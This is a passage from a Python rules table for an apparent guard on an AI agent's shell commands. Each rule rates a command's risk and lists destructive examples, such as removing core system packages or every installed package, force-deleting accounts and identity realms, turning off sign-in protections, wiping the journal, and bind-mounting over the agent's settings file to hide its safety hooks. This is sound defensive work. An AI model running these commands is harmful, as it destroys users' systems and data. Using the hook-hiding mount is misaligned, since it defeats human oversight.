                                  "getcap /usr/bin/python3"]},
    },
    {
        "id": "sys.setgid",
        "level": "destructive",
        "reason": "sets the set-gid bit outside the project: on a directory new files inherit its group, "
        "on a program it runs with the file's group",
        "safer": "Set it on the one shared directory that needs it, and check its group first.",
        "recovery": "`chmod g-s PATH`.",
        "match": {
            "cmd": ("chmod",),
            "args_any": ("g+s*", "2[0-7][0-7][0-7]"),
            "targets": {"region": ("system", "root", "unknown", "home", "home_data", "outside")},
        },
        "examples": {
            "match": ["chmod g+s /srv/shared", "sudo chmod 2775 /var/www/uploads"],
            "no_match": ["chmod g+s shared/", "chmod g+w /srv/shared"],
        },
    },
    {
        "id": "sys.shutdown",
        "level": "dangerous",
        "reason": "shuts down or reboots the machine",
        "safer": "Ask the user; restart the one service that needs it instead.",
        "recovery": "Power the machine back on; unsaved work in other sessions is lost.",
        # PowerShell's twins, also for other machines (`-ComputerName web01,web02`)
        "match": {"cmd": ("shutdown", "reboot", "halt", "poweroff", "restart-computer", "stop-computer"),
                  "words_none": ("-whatif",)},
        "examples": {"match": ["sudo shutdown -h now", "reboot",
                               "Restart-Computer -ComputerName web01,web02 -Force"],
                     "no_match": ["shutdown --help", "uptime",
                                  "Restart-Computer -ComputerName web01 -WhatIf"]},
    },
    {
        "id": "sys.shutdown-systemctl",
        "level": "dangerous",
        "reason": "shuts down, reboots or isolates the machine",
        "safer": "Ask the user; restart the one service that needs it instead.",
        "recovery": "Power the machine back on.",
        "match": {
            "cmd": ("systemctl", "init", "telinit"),
            "sub": (
                "poweroff",
                "reboot",
                "halt",
                "kexec",
                "rescue",
                "emergency",
                "suspend",
                "hibernate",
                "0",
                "6",
                "1",
            ),
        },
        "examples": {"match": ["systemctl poweroff", "init 0"], "no_match": ["systemctl status nginx"]},
    },
    {
        "id": "sys.package-remove",
        "level": "destructive",
        "reason": "removes system packages (dependants may go with them)",
        "safer": "Simulate first (`apt-get -s remove PKG`) and read what else would be removed.",
        "recovery": "Reinstall the packages (`apt-get install PKG`); purged configuration is lost.",
        "match": {
            "cmd": ("apt", "apt-get", "yum", "dnf", "zypper", "apk", "snap", "brew", "port", "pacman"),
            "sub": ("remove", "purge", "autoremove", "erase", "del", "uninstall", "rm"),
        },
        "examples": {
            "match": ["sudo apt-get remove --purge -y python3", "brew uninstall node"],
            "no_match": ["apt-cache search x", "sudo apt-get install -y postgresql-client"],
        },
    },
    {
        "id": "sys.package-remove-essential",
        "level": "forbidden",
        "irreversible": True,
        "reason": "removes a package the system cannot boot or work without (the kernel, the C library, "
        "systemd, the shell, sudo, ssh, the package manager itself)",
        "safer": "Remove the one old kernel or package by its exact version, after `apt-get -s` shows the "
        "plan.",
        "recovery": "Boot a rescue system and reinstall the packages; a remote machine may be unreachable.",
        "match": {
            "cmd": ("apt", "apt-get", "yum", "dnf", "zypper", "apk", "pacman", "rpm", "dpkg"),
            "words_any": ("remove", "purge", "autoremove", "erase", "del", "rm", "-r", "-e", "-p", "-rdd",
                          "-R", "-rns",
                          "--remove", "--purge", "--erase"),
            # every kernel (a literal `*`), or the kernel meta package; one old version is routine, and
            # the headers and devel files modules are built against (`kernel-devel*`) boot nothing
            "args_any": ("linux-image*[*]*", "linux-image-generic", "linux-generic*", "kernel", "kernel-core",
                         "kernel[*]", "kernel-[*]*", "kernel-core*[*]*", "kernel-modules*[*]*",
                         "kernel-[0-9]*[*]*",
                         "linux", "libc6", "libc6:*", "glibc", "glibc-*", "systemd", "systemd-sysv", "init",
                         "bash", "coreutils", "sudo", "openssh-server", "dpkg", "apt", "rpm", "yum", "dnf",
                         # the system's own interpreters: the package manager and core tools run on them
                         "python3", "python3-minimal", "libpython3*-minimal", "platform-python", "perl-base",
                         "pacman", "grub*", "util-linux", "login", "passwd", "libpam*", "base-files",
                         *_ESSENTIAL_GLOBS),
        },
        "examples": {
            "match": ["sudo apt-get purge -y 'linux-image-*'", "sudo apt remove -y libc6",
                      "sudo apt-get remove --purge -y python3", "sudo apt-get purge -y 'python3*'",
                      "sudo dnf remove -y 'systemd*'",
                      "sudo dnf remove sudo",
                      "sudo yum erase openssh-server"],
            "no_match": ["sudo apt-get remove -y nginx",
                         "sudo apt-get purge linux-image-5.15.0-91-generic-dbg",
                         "sudo apt-get remove -y python3-venv", "brew uninstall python@3.11",
                         "sudo apt-get purge -y 'php8.1*'", "sudo apt-get purge -y 'python3-django*'",
                         "sudo apt install bash-completion"],
        },
    },
    {
        # the operands are the list of every installed package (`pacman -Qq`, `rpm -qa`, `dpkg-query -W`),
        # not of orphans (`pacman -Qdtq`): the C library, the kernel and the package manager go with the rest
        "id": "sys.package-remove-every",
        "level": "forbidden",
        "irreversible": True,
        "reason": "removes every installed package (the list the package manager prints of all of them): "
        "the C library, the kernel, the shell and the package manager itself with the rest",
        "safer": "Remove the packages you mean by name, or the orphans only (`pacman -Qdtq`).",
        "recovery": "Boot a rescue system and reinstall the base system.",
        "match": {"cmd": ("pacman", "rpm", "dpkg", "apt", "apt-get", "dnf", "yum", "zypper"),
                  "words_any": ("-R*", "-e", "--erase", "-r", "--remove", "-P", "--purge", "remove", "purge",
                                "erase", "rm"),
                  "words_also": ("$(pacman -Qq)", "$(pacman -Qqn)", "$(pacman -Qnq)", "$(rpm -qa)",
                                 "`pacman -Qq`", "`rpm -qa`", "$(dpkg-query -W -f=*)",
                                 "$(dpkg-query -f=* -W)")},
        "examples": {
            "match": ["sudo pacman -Rdd $(pacman -Qq)", "sudo rpm -e --nodeps $(rpm -qa)"],
            "no_match": ["sudo pacman -Rns $(pacman -Qdtq)", "pacman -Qq", "sudo pacman -Rns python"],
        },
    },
    {
        "id": "sys.pacman-remove",
        "level": "destructive",
        "reason": "removes system packages",
        "safer": "Review with `pacman -Qi PKG` first.",
        "recovery": "Reinstall the packages.",
        "match": {
            "cmd": ("pacman", "rpm", "dpkg"),
            "flags_any": ("-R", "-e", "--erase", "-r", "--remove", "-P", "--purge"),
        },
        "examples": {
            "match": ["pacman -Rns python", "rpm -e openssl", "dpkg -r nginx"],
            "no_match": ["pacman -Q", "rpm -qa"],
        },
    },
    {
        # `yum update` / `dnf update` (unlike `apt update`, which only refreshes the index) upgrade every
        # installed package, as `apt-get upgrade` does
        "id": "sys.package-update-all",
        "level": "reversible",
        "reason": "upgrades every installed system package",
        "safer": "Upgrade the one package you need (`dnf upgrade PKG`), or try the upgrade on one host "
        "first.",
        "recovery": "Roll the transaction back (`dnf history undo last`, `yum history undo last`).",
        "match": {"cmd": ("yum", "dnf", "tdnf", "microdnf", "zypper"),
                  "sub": ("update", "up", "distro-sync", "dup"), "max_operands": 0},
        "examples": {"match": ["sudo yum update -y", "dnf update", "sudo zypper up",
                               "sudo yum update --skip-broken"],
                     "no_match": ["yum check-update", "dnf list updates", "apt update",
                                  "sudo yum update openssl"]},
    },
    {
        # `yum update openssl` upgrades the packages it names (and what they need), as `dnf upgrade PKG`
        "id": "sys.package-update-named",
        "level": "reversible",
        "reason": "upgrades the named system packages",
        "safer": "Prefer project-local installs (a virtualenv, a container); upgrade on one host first.",
        "recovery": "Roll the transaction back (`dnf history undo last`, `yum history undo last`).",
        "match": {"cmd": ("yum", "dnf", "tdnf", "microdnf", "zypper"),
                  "sub": ("update", "up"), "min_operands": 1},
        "examples": {"match": ["sudo yum update openssl", "sudo yum --releasever=2013.09 update openssl",
                               "dnf up kernel"],
                     "no_match": ["sudo yum update -y", "yum check-update openssl"]},
    },
    {
        "id": "sys.package-install",
        "level": "reversible",
        "reason": "installs or upgrades system packages",
        "safer": "Prefer project-local installs (a virtualenv, `npm install` in the project, a container).",
        "recovery": "Remove the package again with the same package manager.",
        "match": {
            # the BSDs' package managers too: FreeBSD `pkg`, NetBSD `pkgin`; zypper's `in` is its install
            "cmd": ("apt", "apt-get", "yum", "dnf", "zypper", "apk", "snap", "pacman", "port", "flatpak",
                    "pkg", "pkgin"),
            "sub": ("install", "upgrade", "dist-upgrade", "full-upgrade", "add", "reinstall", "in"),
        },
        "examples": {
            "match": ["sudo apt-get install -y postgresql-client", "apk add curl",
                      "sudo pkg install -y nginx", "sudo pkgin install nginx", "sudo zypper in nginx"],
            "no_match": ["apt-cache policy nginx", "pkg info", "pkg search nginx", "pkgin search nginx"],
        },
    },
    {
        # Which program a system-wide name (`python3`, `java`, `editor`) runs, for every user and every
        # script that calls it: the system's own tools were built against the default they had
        "id": "sys.alternatives-set",
        "level": "destructive",
        "reason": "changes which program a system-wide command name runs, for every user and script",
        "safer": "Call the version you need by its full path, or use a virtualenv or version manager.",
        "recovery": "`update-alternatives --auto NAME` puts the default back.",
        "match": {"cmd": ("update-alternatives", "alternatives"),
                  "words_any": ("--set", "--install", "--remove", "--remove-all", "--config", "--all",
                                "--auto")},
        "examples": {"match": ["sudo update-alternatives --set python3 /usr/bin/python3.12",
                               "sudo alternatives --install /usr/bin/java java /opt/jdk/bin/java 1",
                               "sudo update-alternatives --config editor"],
                     "no_match": ["update-alternatives --display python3", "update-alternatives --list java",
                                  "alternatives --query java"]},
    },
    {
        # pacman and its AUR front ends install by an operation flag, not a word: `-S` (with its refresh and
        # upgrade letters, `-Syu`), `-U` for a package file; `-Ss`/`-Si`/`-Q…` only look
        "id": "sys.package-install-pacman",
        "level": "reversible",
        "reason": "installs or upgrades system packages",
        "safer": "Prefer project-local installs (a virtualenv, `npm install` in the project, a container).",
        "recovery": "Remove the package again (`pacman -Rs NAME`).",
        "match": {"cmd": ("pacman", "yay", "paru", "pamac"),
                  "words_any": ("-s", "-sy", "-syy", "-syu", "-syyu", "-su", "-suy", "-u", "install")},
        "examples": {"match": ["sudo pacman -S --noconfirm jq", "sudo pacman -Syu",
                               "paru -S visual-studio-code-bin",
                               "sudo pacman -U ./pkg.tar.zst", "pamac install firefox"],
                     "no_match": ["pacman -Ss jq", "pacman -Qi jq", "pacman -Si jq", "pacman -Ql jq"]},
    },
    {
        # installers that take the package names as their operands (OpenBSD `pkg_add`, Void `xbps-install`)
        "id": "sys.package-install-operands",
        "level": "reversible",
        "reason": "installs or upgrades system packages",
        "safer": "Prefer project-local installs (a virtualenv, `npm install` in the project, a container).",
        "recovery": "Remove the package again with the same package manager (`pkg_delete`, `xbps-remove`).",
        "match": {"cmd": ("pkg_add", "xbps-install"), "min_operands": 1,
                  "words_none": ("-n", "--dry-run", "-h", "--help")},
        "examples": {"match": ["doas pkg_add nginx", "sudo xbps-install -y nginx"],
                     "no_match": ["pkg_add -n nginx", "xbps-install -n nginx"]},
    },
    {
        # `atq | cut -f1 | xargs atrm`: fed the whole queue, it removes every job the user scheduled,
        # as `crontab -r` removes every cron job; one job named by its number is that one
        "id": "sys.at-queue-remove",
        "level": "dangerous",
        "irreversible": True,
        "reason": "removes every scheduled `at` job the queue lists (nothing keeps them)",
        "safer": "Remove the one job you mean by its number (`atrm 12`) after `atq`.",
        "recovery": "Schedule the jobs again; `at -c N` would have shown each one's script beforehand.",
        "match": {"cmd": ("atrm",), "stdin_from": ("atq",)},
        "examples": {"match": ["atq | cut -f1 | xargs -r atrm", "atq | awk '{print $1}' | xargs atrm"],
                     "no_match": ["atrm 12", "atq"]},
    },
    {
        "id": "sys.crontab-remove",
        "level": "dangerous",
        "irreversible": True,
        "reason": "removes every scheduled job of the user (`crontab -r` has no confirmation)",
        "safer": "`crontab -l > crontab.bak` first, then edit with `crontab -e`.",
        "recovery": "Reinstall from the backup (`crontab crontab.bak`).",
        "match": {"cmd": ("crontab",), "flags_any": ("-r",)},
        "examples": {"match": ["crontab -r"], "no_match": ["crontab -l"]},
    },
    {
        "id": "sys.crontab-replace",
        "level": "destructive",
        "reason": "replaces the user's scheduled jobs (a persistent foothold if the job runs "
        "downloaded code)",
        "safer": "Show the job to the user and let them install it with `crontab -e`.",
        "recovery": "`crontab -l` to inspect, `crontab -e` to remove the added lines.",
        "match": {"cmd": ("crontab",), "flags_none": ("-l", "-r", "-e"), "min_args": 1},
        "examples": {
            "match": ["crontab jobs.txt", "(crontab -l; echo '0 * * * * true') | crontab -"],
            "no_match": ["crontab -l"],
        },
    },
    {
        # the account this runs as, removed with its files: its home directory is the one the agent
        # works in (`rm -rf ~` by another name). Another account's removal stays a pause
        "id": "sys.user-delete-own-home",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes the account this runs as together with its home directory: every file of the "
        "user, as `rm -rf ~` would",
        "safer": "Lock the account (`usermod -L NAME`) and archive its home first.",
        "recovery": "Only from a backup of the home directory; the account can be made again, its files not.",
        "match": {"cmd": ("userdel", "deluser"), "own_user": True,
                  "flags_any": ("-r", "--remove", "--remove-home", "--remove-all-files")},
        "examples": {
            "match": ["sudo userdel -r -f dev", "sudo deluser --remove-home $USER",
                      "sudo userdel --remove $(whoami)"],
            "no_match": ["sudo userdel -r contractor1", "sudo userdel dev",
                         "sudo deluser --remove-home alice"],
        },
    },
    {
        # `userdel -r -f`: the force lifts the two checks that keep a removal to one idle account: the
        # account goes while its user is signed in and working, and the home directory goes even when
        # another account shares it or it is not the user's own. Whoever's files those are, they are gone
        # with no copy (`deluser` has no such force; its removals stay sys.user-delete's pause)
        "id": "sys.user-delete-forced-home",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes a user account with its home directory by force (`-r -f`): even while the user is "
        "signed in, and the home even if another account shares it; every file in it is gone",
        "safer": "Lock the account (`usermod -L NAME`), let its sessions end, and archive its home first.",
        "recovery": "Only from a backup of the home directory; the account can be made again, its files not.",
        "match": {"cmd": ("userdel",), "flags_all": (("-r", "--remove"), ("-f", "--force"))},
        "examples": {
            "match": ["sudo userdel -r -f contractor1", "userdel --force --remove intern2",
                      "sudo userdel -rf svc-legacy"],
            "no_match": ["sudo userdel -r contractor1", "sudo userdel -f contractor1",
                         "sudo userdel intern2"],
        },
    },
    {
        # the machine leaves its directory domain: its computer account is deleted, and every login, file
        # share and policy that went through the domain stops until it is joined again by an administrator
        "id": "sys.domain-left",
        "extends_generic": True,
        "level": "destructive",
        "reason": "takes the machine out of its directory domain (Active Directory, FreeIPA): domain logins "
        "and the shares and services that authenticate through it stop working",
        "safer": "Check what authenticates through the domain first, and have a local administrator login.",
        "recovery": "Join the domain again with an administrator's credentials (`net ads join`, `realm "
        "join`).",
        "match": {"cmd": ("net", "realm", "adcli", "ipa-client-install", "samba-tool"),
                  "words_any": ("leave", "--uninstall", "delete-computer", "unjoin"),
                  "words_none": ("--help", "testjoin", "list")},
        "examples": {"match": ["sudo net ads leave -U administrator", "sudo realm leave corp.example.com",
                               "sudo ipa-client-install --uninstall",
                               "sudo adcli delete-computer -D corp.example.com fileserver01"],
                     "no_match": ["sudo net ads testjoin", "realm list", "sudo net ads info"]},
    },
    {
        # another person's directory password set by an administrator: they are locked out of every
        # service the account opens until they learn the new one, and whoever set it can sign in as them
        "id": "sys.directory-password-set",
        "extends_generic": True,
        "level": "destructive",
        "reason": "sets another account's directory password: its owner is locked out of everything it "
        "opens until told the new one, and whoever set it can sign in as them meanwhile",
        "safer": "Use the self-service reset, or set a one-time password only through the help-desk process.",
        "recovery": "Tell the owner and have them choose a new password; review the account's sign-ins.",
        "match": {"cmd": ("samba-tool", "ipa", "kadmin", "kadmin.local", "pdbedit"),
                  "words_any": ("setpassword", "passwd", "cpw", "cpw *", "change_password",
                                "change-password",
                                "--newpassword=*", "--password", "--random"),
                  "words_none": ("--help", "list", "show")},
        "examples": {"match": ["sudo samba-tool user setpassword jdoe --newpassword='S3cure!x'",
                               "ipa passwd jdoe", "sudo kadmin.local -q 'cpw jdoe'"],
                     "no_match": ["sudo samba-tool user list", "ipa user-show jdoe",
                                  "samba-tool user show jdoe"]},
    },
    {
        # a locked or expired account keeps its files but nobody can sign in as it: a person locked out
        # of their work, or a service account's jobs failing, until someone with root unlocks it
        "id": "sys.account-locked",
        "level": "destructive",
        "reason": "locks or expires a user account (`passwd -l`, `usermod -L`, `chage -E 0`, a nologin "
        "shell): whoever or whatever signs in as it is locked out",
        "safer": "Check who and what uses the account first (`last NAME`, `crontab -u NAME -l`, its "
        "services).",
        "recovery": "Unlock it (`passwd -u NAME`, `usermod -U NAME`, `chage -E -1 NAME`, "
        "`usermod -s /bin/bash "
        "NAME`).",
        "extends_generic": True,
        "match": {"cmd": ("passwd", "usermod", "pw", "net", "smbpasswd"),
                  "words_any": ("-l", "--lock", "-L", "-e=0", "-e=1", "-e=1970-*", "--expiredate=0",
                                "--expiredate=1", "-s=*nologin", "-s=/bin/false", "-s=/usr/bin/false",
                                "--shell=*nologin", "lock", "/active:no", "-d"),
                  # words are compared lower-cased: `passwd -S` (status) and `usermod -U` (unlock) name no
                  # lock
                  "words_none": ("--status", "--unlock")},
        "examples": {"match": ["sudo passwd -l deploy", "sudo usermod -L deploy",
                               "sudo passwd --lock ci-runner",
                               "sudo usermod -s /usr/sbin/nologin bob", "net user alice /active:no",
                               "sudo pw lock alice"],
                     "no_match": ["passwd -S deploy", "sudo passwd -u deploy",
                                  "sudo usermod -aG docker alice",
                                  "passwd"]},
    },
    {
        "id": "sys.account-expired",
        "level": "destructive",
        "reason": "expires a user account now (`chage -E 0`): nobody can sign in as it",
        "safer": "Check who and what uses the account first (`last NAME`, `crontab -u NAME -l`, its "
        "services).",
        "recovery": "Remove the expiry (`chage -E -1 NAME`).",
        "extends_generic": True,
        "match": {"cmd": ("chage",), "words_any": ("-E", "--expiredate", "-E0", "--expiredate=*"),
                  "words_also": ("0", "1", "1970-*", "-E0", "--expiredate=0", "--expiredate=1"),
                  "words_none": ("-l", "--list")},
        "examples": {"match": ["sudo chage -E 0 alice", "sudo chage -E0 alice"],
                     "no_match": ["chage -l alice", "sudo chage -E -1 alice",
                                  "sudo chage -E 2030-01-01 bob"]},
    },
    {
        "id": "sys.user-delete",
        "level": "destructive",
        "irreversible": True,
        "reason": "deletes a user account (with -r, their home directory too)",
        "safer": "Lock the account instead (`usermod -L NAME`).",
        "recovery": "Recreate the user; their files need a backup.",
        "match": {"cmd": ("userdel", "deluser", "groupdel", "delgroup")},
        "examples": {"match": ["sudo userdel -r contractor1"], "no_match": ["id contractor1"]},
    },
    {
        # a directory server's entries are the organisation's accounts and groups
        "id": "sys.ldap-delete",
        "level": "destructive",
        "irreversible": True,
        "reason": "deletes entries from an LDAP directory (accounts, groups): whoever they were loses access",
        "safer": "Export the entries first (`ldapsearch -LLL -b DN > backup.ldif`), then delete the one you "
        "mean.",
        "recovery": "Add them back from the export (`ldapadd -f backup.ldif`).",
        "match": {"cmd": ("ldapdelete",)},
        "examples": {"match": ["ldapdelete -x -D cn=admin,dc=acme,dc=com -W "
                               "'uid=jdoe,ou=people,dc=acme,dc=com'"],
                     "no_match": ["ldapsearch -x -b 'ou=people,dc=acme,dc=com' uid=jdoe"]},
    },
    {
        "id": "sys.ldap-delete-subtree",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes an LDAP subtree with everything under it (`ldapdelete -r`): every account and "
        "group of an organisational unit, or of the whole directory",
        "safer": "Export the subtree first (`ldapsearch -LLL -b DN > backup.ldif`); delete leaf entries one "
        "by one.",
        "recovery": "Add them back from an export (`ldapadd -f backup.ldif`), if one exists.",
        "match": {"cmd": ("ldapdelete",), "flags_any": ("-r",)},
        "examples": {"match": ["ldapdelete -x -D cn=admin,dc=acme,dc=com -W -r 'ou=people,dc=acme,dc=com'"],
                     "no_match": ["ldapdelete -x -W 'uid=jdoe,ou=people,dc=acme,dc=com'"]},
    },
    {
        # an identity provider's realm, tenant or organisation holds every account, client and setting of
        # it: deleted, everyone who signs in through it is locked out of everything it fronts, at once
        "id": "sys.idp-realm-delete",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes a whole realm, tenant or organisation of an identity provider: every account, "
        "client and sign-in setting in it",
        "safer": "Export it first (`kc.sh export --realm NAME`, the provider's export); disable it rather "
        "than delete it.",
        "recovery": "Import it from an export, if one exists; otherwise every account must be made again.",
        "match": {"cmd": ("kcadm.sh", "kcadm", "curl", "http", "xh"),
                  "words_any": ("delete", "-X=DELETE", "--request=DELETE"),
                  "words_also": ("realms/*", "*/admin/realms/*", "*/api/tenants/*", "*/api/tenant/*",
                                 "*/api/v[0-9]/tenants/*", "*/api/v[0-9]/orgs/*",
                                 "*/api/v[0-9]/organizations/*"),
                  # something inside the realm (`realms/x/users/ID`), or a development server here
                  "words_none": ("realms/*/*", "*/admin/realms/*/*", "*/tenants/*/*", "*/tenant/*/*",
                                 "*/orgs/*/*", "*/organizations/*/*", "*://localhost[:/]*",
                                 "*://127.0.0.1[:/]*")},
        "examples": {"match": ["kcadm.sh delete realms/partners",
                               "curl -X DELETE -H \"Authorization: Bearer $T\" "
                               "https://sso.acme.io/admin/realms/partners"],
                     "no_match": ["kcadm.sh delete realms/partners/users/5f1e",
                                  "kcadm.sh get realms/partners",
                                  "curl -X DELETE http://localhost:8080/admin/realms/test-realm"]},
    },
    {
        # an identity provider's store of accounts (an Auth0 database connection, a Cognito user pool, an
        # Entra B2C or Identity Platform tenant's users) holds every user's sign-in and password hash:
        # deleted, every user in it is gone at once, whatever the provider calls the store
        "id": "sys.idp-user-store-delete",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes an identity provider's store of accounts (a database connection, a user pool): "
        "every user in it, with their passwords, at once",
        "safer": "Export the users first (the provider's bulk export), and disable the connection or pool "
        "rather than delete it.",
        "recovery": "Import the users from an export, if one exists (password hashes may not be exportable: "
        "everyone resets); otherwise every account must be made again.",
        # (auth0 itself is read in classify/every_account.py: a rule naming it would make it a known
        # program, and its other acts would lose the unknown program's act reading)
        "match": {"cmd": ("aws", "curl", "http", "xh"),
                  "words_any": ("delete", "delete-user-pool", "-X=DELETE", "--request=DELETE"),
                  "words_also": ("connections/*", "*/api/v2/connections/*", "delete-user-pool"),
                  # something inside the store (`connections/ID/users`), or a development tenant or server
                  "words_none": ("connections/*/*", "*/api/v2/connections/*/*", "*://localhost[:/]*",
                                 "*-dev.*", "*-test.*", "*dev-*", "*test-*", "*sandbox*")},
        "examples": {"match": ["aws cognito-idp delete-user-pool --user-pool-id eu-west-1_AbC123",
                               "curl -X DELETE -H \"Authorization: Bearer $T\" "
                               "https://acme.eu.auth0.com/api/v2/connections/con_8Hq2LmN4"],
                     "no_match": ["curl -X DELETE https://acme.eu.auth0.com/api/v2/connections/con_1/users",
                                  "aws cognito-idp delete-user --user-pool-id eu-west-1_AbC123 --username x",
                                  "curl -X DELETE http://localhost:3000/api/v2/connections/con_8Hq2"]},
    },
    {
        # a sign-in protection of an identity provider turned off by a setting: passwords may be guessed
        # without end, or a second factor is no longer asked
        "id": "sys.idp-protection-off",
        "level": "destructive",
        "reason": "turns off a sign-in protection (brute-force detection, lockout, a second factor, "
        "required TLS): accounts are easier to take over from now on",
        "safer": "Tune the protection (a higher threshold) instead of turning it off, with its owner.",
        "recovery": "Set it back on and review failed and successful sign-ins meanwhile.",
        "match": {"cmd": ("*", "kcadm.sh", "kcadm"),
                  "words_any": ("bruteforceprotected=false", "*bruteforce*=false", "*lockout*=false",
                                "*lockout*enabled=false", "*mfa*=false", "*mfa*=off", "*mfa*=disabled",
                                "*2fa*=false", "*twofactor*=false", "*otp*required*=false",
                                "*captcha*=false", "sslrequired=none"),
                  "not_cmd": ("grep", "egrep", "fgrep", "rg", "ag", "ack", "echo", "printf", "cat", "jq",
                              "yq")},
        "examples": {"match": ["kcadm.sh update realms/partners -s bruteForceProtected=false",
                               "idpctl policy set --mfa-required=false"],
                     "no_match": ["kcadm.sh update realms/partners -s bruteForceProtected=true",
                                  "grep -r bruteForceProtected=false realm-export.json"]},
    },
    {
        "id": "sys.user-privilege",
        "level": "dangerous",
        "reason": "grants a user administrator rights (sudo/wheel/admin/root group, uid 0) or sets passwords",
        "safer": "Ask the machine's administrator; grant a narrow sudo rule instead.",
        "recovery": "Remove the user from the group (`gpasswd -d USER sudo`).",
        "match": {
            "cmd": ("usermod", "gpasswd", "adduser", "useradd", "passwd", "chpasswd", "dseditgroup"),
            "words_any": (
                "sudo",
                "wheel",
                "admin",
                "root",
                "docker",
                "-G=*sudo*",
                "-G=*wheel*",
                "-u=0",
                "-o",
                "-a",
                "--stdin",
                # a list of groups (`-aG docker,sudo`): an admin group anywhere in it
                *(form.format(group) for group in ("sudo", "wheel", "admin", "root", "docker")
                  for form in ("{},*", "*,{}", "*,{},*")),
            ),
        },
        "examples": {
            "match": ["sudo usermod -aG sudo agent", "gpasswd -a agent wheel", "passwd root",
                      "sudo usermod -aG docker,sudo contractor-jk", "usermod -G video,wheel bob"],
            "no_match": ["id agent"],
        },
    },
    {
        "id": "sys.kernel-module",
        "level": "dangerous",
        "reason": "loads or removes kernel modules or changes kernel parameters",
        "safer": "Ask the machine's administrator.",
        "recovery": "Reverse it (`modprobe MODULE`, `sysctl -w KEY=OLD`) or reboot.",
        "match": {
            "cmd": ("modprobe", "sysctl"),
            "words_any": ("-w", "-r", "--remove", "-p", "--load", "*=*"),
        },
        "examples": {
            "match": ["sysctl -w net.ipv4.ip_forward=1", "modprobe -r nf_tables"],
            "no_match": ["sysctl -a", "modprobe -c"],
        },
    },
    {
        "id": "sys.kernel-module-load",
        "level": "dangerous",
        "reason": "inserts or removes a kernel module, or boots another kernel",
        "safer": "Ask the machine's administrator.",
        "recovery": "Reverse it (`modprobe MODULE` / `rmmod MODULE`) or reboot.",
        "match": {"cmd": ("insmod", "rmmod", "kexec")},
        "examples": {"match": ["rmmod nf_tables", "insmod ./x.ko"], "no_match": ["lsmod"]},
    },
    {
        # an unmount pulls a filesystem from under what uses it; swap switched takes memory away; a remount
        # or a move changes a mount the system already relies on (`-o remount,rw /`)
        "id": "sys.mount-change",
        "level": "destructive",
        "reason": "unmounts, remounts or moves filesystems, or switches swap",
        "safer": "Ask the machine's administrator.",
        "recovery": "Mount it again (`mount -a`).",
        "match": {
            "cmd": ("umount", "swapoff", "swapon", "mount"),
            "min_args": 1,
            "flags_none": ("-l", "--list", "--show", "-s"),
            "words_any": ("umount", "swapoff", "swapon", "*remount*", "--move", "--make-*"),
        },
        "examples": {
            "match": ["sudo umount /data", "mount -o remount,rw /", "sudo swapoff -a",
                      "sudo mount --move /mnt/old /mnt/new"],
            "no_match": ["mount", "mount -l", "sudo mount -o loop,ro /tmp/rootfs.img /mnt/img"],
        },
    },
    {
        # a filesystem mounted on a new mount point adds a tree and changes nothing on either side
        # (`umount` takes it away again); mounted over a directory the system runs from (`/etc`, `/usr`,
        # `/dev/random`, `/proc`, the root) it hides what is there from every running program. /mnt itself
        # is the mount point the filesystem hierarchy keeps for a filesystem mounted for a while (nothing
        # the system runs from is there); /media, /srv or /opt themselves hold other mounts or software
        "id": "sys.mount-over-system",
        "level": "destructive",
        "reason": "mounts a filesystem over a directory or device the system runs from: what was there is "
        "hidden from every program until it is unmounted",
        "safer": "Mount on a mount point of its own (`/mnt/NAME`, a folder in scratch).",
        "recovery": "Unmount it (`umount PATH`).",
        "match": {"cmd": ("mount",),
                  "targets": {"of": "last", "region": ("root", "system", "pseudo"),
                              "not_under": (*_MOUNT_AREAS,), "path_not": ("/mnt",)}},
        "examples": {
            "match": ["mount --bind /tmp/fakerandom /dev/random", "mount -t proc none /proc",
                      "sudo mount --bind /tmp/etc /etc", "sudo mount /dev/sdb1 /usr/local",
                      "sudo mount /dev/sdb1 /media", "sudo mount /dev/sdc1 /opt"],
            "no_match": ["sudo mount /dev/sdb1 /mnt", "mount -t ntfs -o ro /dev/mapper/disk /mnt/",
                         "sudo mount -o loop,ro /tmp/rootfs.img /mnt/img",
                         "sudo mount /dev/xvdf /vol -t ext4",
                         "mount -t tmpfs none /tmp/work", "mount /windows", "sudo mount -a",
                         "sudo mount -t vfat /dev/sda7 /media/usb"],
        },
    },
    {
        # a mount over the agent's settings or the guard's own files (`mount --bind /dev/null
        # ~/.claude/settings.json`) hides them from every program in that namespace: the agent started
        # there runs without its hooks; over a key, a credential or a start-up file, a chosen file stands
        # in for the real one
        "id": "sys.mount-over-guarded",
        "level": "forbidden",
        "irreversible": True,
        "reason": "mounts something over the agent's settings, the guard's files, a credential or a shell "
        "start-up file: programs read the mounted file instead, and the safety hooks are gone",
        "safer": "Leave these files alone; change a setting through the tool that owns it.",
        "recovery": "Unmount it (`umount PATH`) and check what ran while it was mounted.",
        "match": {"cmd": ("mount",),
                  "targets": {"of": "last", "sensitivity": ("agent_config", "dongle_self", "credential",
                                                            "shell_startup", "system_auth")}},
        "examples": {"match": ["mount --bind /dev/null ~/.claude/settings.json",
                               "sudo mount --bind /tmp/keys ~/.ssh/authorized_keys"],
                     "no_match": ["mount --bind ~/project/data /mnt/data",
                                  "mount -o loop disk.img /mnt/img"]},
    },
    {
        "id": "sys.immutable-flag",
        "level": "dangerous",
        "reason": "changes immutable/append-only attributes (used to protect or lock down files)",
        "safer": "Ask the machine's administrator.",
        "recovery": "Set the attribute back (`chattr +i FILE`).",
        "match": {"cmd": ("chattr",), "words_any": ("-i", "-a", "+i", "+a")},
        "examples": {"match": ["sudo chattr -i /etc/resolv.conf"], "no_match": ["lsattr /etc/resolv.conf"]},
    },
    {
        "id": "sys.journal-wipe",
        "level": "forbidden",
        "irreversible": True,
        "reason": "empties the system journal (vacuum down to seconds, minutes or a few kilobytes): the "
        "host's record of what happened is gone",
        "safer": "Leave log retention to journald.conf; to save space, vacuum to weeks, not seconds.",
        "recovery": "Only entries already shipped to a central collector survive.",
        "match": {"cmd": ("journalctl",), "words_any": (
            "--vacuum-time=[0-9]", "--vacuum-time=[0-9]s", "--vacuum-time=[0-9][0-9]s", "--vacuum-time=*sec*",
            "--vacuum-time=[0-9]m", "--vacuum-time=[0-9][0-9]m", "--vacuum-time=*min*",
            "--vacuum-time=0h", "--vacuum-time=1h", "--vacuum-time=0*",
